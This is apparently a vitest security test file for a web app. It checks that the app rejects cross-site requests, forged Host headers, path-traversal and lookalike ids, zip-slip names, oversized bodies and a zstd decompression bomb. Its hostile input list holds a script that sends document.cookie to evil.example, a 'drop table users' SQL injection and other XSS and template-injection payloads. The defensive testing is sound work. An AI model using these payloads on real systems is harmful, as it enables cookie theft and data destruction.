/** What somebody who means harm sends to the web app: with a stolen cookie, by another name, in every text, and too much of it. */
import { randomBytes } from "node:crypto";
import { zstdCompressSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deviceListReplySchema, ideaListReplySchema, limits } from "@coda/protocol";
import * as accountRoute from "@/app/api/account/route.ts";
import * as deviceRoute from "@/app/api/devmode/devices/[id]/route.ts";
import * as devicesRoute from "@/app/api/devmode/devices/route.ts";
import * as exportRoute from "@/app/api/devmode/ideas/[id]/export/route.ts";
import * as ideasRoute from "@/app/api/devmode/ideas/route.ts";
import * as sessionRoute from "@/app/api/devmode/sessions/[id]/route.ts";
import * as sessionsRoute from "@/app/api/devmode/sessions/route.ts";
import { call, refusal, succeed, World, type Call, type Caller } from "@/app/api/testing/world.ts";
import { Cast } from "../testing/access/cast.ts";
import { allRoutes } from "../testing/access/discover.ts";
import { routeTable } from "../testing/access/route-table.ts";
import { openEmbedded } from "../testing/databases.ts";
import { unzip } from "../testing/unzip.ts";
import { bytesOf, part, uploadEpoch } from "../testing/upload.ts";

const routes = await allRoutes();
let world: World;
let cast: Cast;
let owner: Caller;

beforeAll(async () => {
  world = await World.open(openEmbedded, { env: { CODA_LOCAL: "0" } });
  cast = await Cast.gather(world);
  owner = await cast.caller("owner");
});
afterAll(() => world.dispose());

/** By a secret and by any name: what a host's scheduler calls, and what collects figures. */
const isBySecret = (name: string): boolean => name.includes("/api/internal/jobs/") || name === "GET /api/metrics";
const changing = [...routes.keys()].filter((name) => !name.startsWith("GET ") && !isBySecret(name));

async function as(name: string, headers: Readonly<Record<string, string>>): Promise<string> {
  const handler = routes.get(name);
  if (handler === undefined) throw new Error("there is no such route");
  const given: Call = (await routeTable[name]?.given?.(cast, "owner")) ?? {};
  const [method = ""] = name.split(" ");
  return refusal(await call(handler, { ...owner, ...headers }, { method, ...given }));
}

describe("another site's page with a visitor's cookie", () => {
  it.each(changing)("changes nothing by %s", async (name) => {
    for (const headers of [
      { origin: "https://evil.example" },
      { origin: "null" },
      { origin: "file://" },
      { origin: "app://." },
      { origin: "http://127.0.0.1:4001" },
      { "sec-fetch-site": "cross-site" },
      { "sec-fetch-site": "same-site" },
    ])
      expect([headers, await as(name, headers)]).toEqual([headers, "403 forbidden"]);
  });
});

describe("a name that was made to lead here", () => {
  it.each([...routes.keys()].filter((name) => !isBySecret(name)))("is not answered by %s", async (name) => {
    for (const host of ["evil.example", "127.0.0.1:4000.evil.example", "127.0.0.1:4001", "evil@127.0.0.1:4000"])
      expect([host, await as(name, { host })]).toEqual([host, "421 wrongHost"]);
  });
});

/** Not ids, though they look like one, end in one, or are one to somebody who reads carelessly. */
const trickyIds = (id: string): readonly string[] => [
  "..",
  ".",
  "",
  `../${id}`,
  `${id}/..`,
  `..%2f${id}`,
  `${id}%00`,
  `${id}\0`,
  `${id} `,
  ` ${id}`,
  `${id}\n`,
  id.toUpperCase(),
  id.replace("a", "\u0430"),
  id.replace("e", "\uFF45"),
  `${id}\u200B`,
  `${id}::primary`,
  `${id}'--`,
  "x".repeat(41),
  "__proto__",
];

describe("an id that is none", () => {
  const ofIdeas = [...routes.keys()].filter((name) => name.includes("/ideas/[id]"));
  it.each(ofIdeas)("names nothing in %s", async (name) => {
    const handler = routes.get(name);
    if (handler === undefined) throw new Error("there is no such route");
    const [method = ""] = name.split(" ");
    for (const id of trickyIds(cast.idea)) {
      const given = (await routeTable[name]?.given?.(cast, "owner")) ?? {};
      const reply = await call(handler, owner, { method, ...given, params: { ...given.params, id } });
      expect([id, await refusal(reply)]).toEqual([id, "404 notFound"]);
    }
  });

  it("is no idea's, no session's and no slot's", async () => {
    const post = async (handler: typeof ideasRoute.POST, body: object) =>
      refusal(await call(handler, owner, { method: "POST", body }));
    for (const id of trickyIds(cast.idea)) {
      expect(await post(ideasRoute.POST, { title: "x", id })).toBe("400 badRequest");
      expect(await post(sessionsRoute.POST, { idea: id })).toBe("400 badRequest");
      expect(await post(sessionsRoute.POST, { idea: cast.idea, slot: id })).toBe("400 badRequest");
    }
  });
});

const hostile = [
  `'); drop table users; --`,
  `" or "1"="1`,
  `\${7*7}{{7*7}}`,
  `<script>fetch('//evil.example?'+document.cookie)</script>`,
  `<img src=x onerror=alert(1)>`,
  `%00 \\x00 txt.exe`,
];

describe("SQL and markup in what people name things", () => {
  it("come back as they were given, and do nothing", async () => {
    for (const text of hostile) {
      expect((await call(ideasRoute.POST, owner, { method: "POST", body: { title: text } })).status).toBe(201);
      const renamed = { method: "PATCH", params: { id: cast.device }, body: { name: text } };
      expect((await call(deviceRoute.PATCH, owner, renamed)).status).toBe(200);
      expect((await call(accountRoute.PATCH, owner, { method: "PATCH", body: { name: text } })).status).toBe(204);
      const { ideas } = await succeed(await call(ideasRoute.GET, owner), ideaListReplySchema);
      expect(ideas.some(({ title }) => title === text.trim())).toBe(true);
      const { devices } = await succeed(await call(devicesRoute.GET, owner), deviceListReplySchema);
      expect(devices[0]?.name).toBe(text.trim());
    }
  });

  it("are refused where they turn what stands beside them, or cannot be seen", async () => {
    for (const text of ["a\u202Etxt.exe", "a\u2066b", "two\nlines", "\u200B"]) {
      const idea = { method: "POST", body: { title: text } };
      expect(await refusal(await call(ideasRoute.POST, owner, idea))).toBe("400 badRequest");
      const device = { method: "PATCH", params: { id: cast.device }, body: { name: text } };
      expect(await refusal(await call(deviceRoute.PATCH, owner, device))).toBe("400 badRequest");
      const person = { method: "PATCH", body: { name: text } };
      expect(await refusal(await call(accountRoute.PATCH, owner, person))).toBe("400 badRequest");
    }
  });

  it("are data to a browser whatever it is told to make of them: JSON, never sniffed", async () => {
    const reply = await call(ideasRoute.GET, owner);
    expect(reply.headers.get("content-type")).toBe("application/json");
  });
});

describe("an archive", () => {
  it("holds only relative names of its own slots, whatever a device named its panes", async () => {
    const device = await cast.caller("device");
    const patch = (epochs: object[]) =>
      call(sessionRoute.PATCH, device, { method: "PATCH", params: { id: cast.session }, body: { epochs } });
    for (const pane of ["%../../etc", "%1/../../x", "../x", "%-1", "C:\\x", "%1\0", "%01"])
      expect(await refusal(await patch([{ ...uploadEpoch(), pane }]))).toBe("400 badRequest");
    expect((await patch([uploadEpoch({ chunks: [part(0, Buffer.from("../../etc/passwd\r\n"))] })])).status).toBe(200);
    const reply = await call(exportRoute.GET, owner, { params: { id: cast.idea } });
    expect(reply.headers.get("content-disposition")).toBe(`attachment; filename="${cast.idea}.zip"`);
    const names = [...unzip(await bytesOf(reply)).keys()];
    expect(names.length).toBeGreaterThan(1);
    for (const name of names)
      expect(name).toMatch(/^(?:[a-z0-9][a-z0-9-]*\/pane-\d+\/)?[a-z]+\.(?:bin|cast|ndjson|json)$/u);
  });
});

describe("a chunk that unpacks to more than it says", () => {
  const bomb = zstdCompressSync(Buffer.alloc(256 * 1024 * 1024));
  const upload = async (rawBytes: number, zstd: Uint8Array) => {
    const chunk = { offset: 0, rawBytes, zstd: Buffer.from(zstd).toString("base64") };
    const given = {
      method: "PATCH",
      params: { id: cast.session },
      body: { epochs: [{ ...uploadEpoch(), chunks: [chunk] }] },
    };
    return call(sessionRoute.PATCH, await cast.caller("device"), given);
  };

  it("is refused, and not unpacked", async () => {
    const before = process.memoryUsage().arrayBuffers;
    for (const rawBytes of [1, limits.chunkRawBytes])
      expect((await upload(rawBytes, bomb)).status).toBeGreaterThanOrEqual(400);
    expect(await refusal(await upload(256 * 1024 * 1024, bomb))).toBe("400 badRequest");
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(64 * 1024 * 1024);
  });

  it("is refused when its frame says a small size, says none, or is none", async () => {
    const lying = Buffer.from(bomb);
    lying.writeUInt32LE(10, 5);
    for (const zstd of [lying, randomBytes(100), new Uint8Array(0)])
      expect([400, 422]).toContain((await upload(10, zstd)).status);
  });
});

describe("a body that is too large", () => {
  const filler = "x".repeat(70 * 1024);

  it("is refused by what it says of its length, and by what comes where it says nothing", async () => {
    expect(await refusal(await call(ideasRoute.POST, owner, { method: "POST", body: { title: filler } }))).toBe(
      "413 tooLarge",
    );
    const endless = new ReadableStream<Uint8Array>({
      pull: (controller) => controller.enqueue(Buffer.from(filler)),
    });
    expect(await refusal(await raw(endless))).toBe("413 tooLarge");
  });

  it("is refused as what it is not where it is deep instead", async () => {
    const depth = 15_000;
    const text = `{"title":${"[".repeat(depth)}${"]".repeat(depth)}}`;
    expect(await refusal(await raw(text))).toBe("400 badRequest");
  });
});

/** To the making of an idea, as it is. */
function raw(body: string | ReadableStream<Uint8Array>): Promise<Response> {
  const request = new Request("http://127.0.0.1:4000/api/devmode/ideas", {
    method: "POST",
    headers: { host: "127.0.0.1:4000", ...owner },
    body,
    duplex: "half",
  } as RequestInit);
  return ideasRoute.POST(request, { params: Promise.resolve({}) });
}
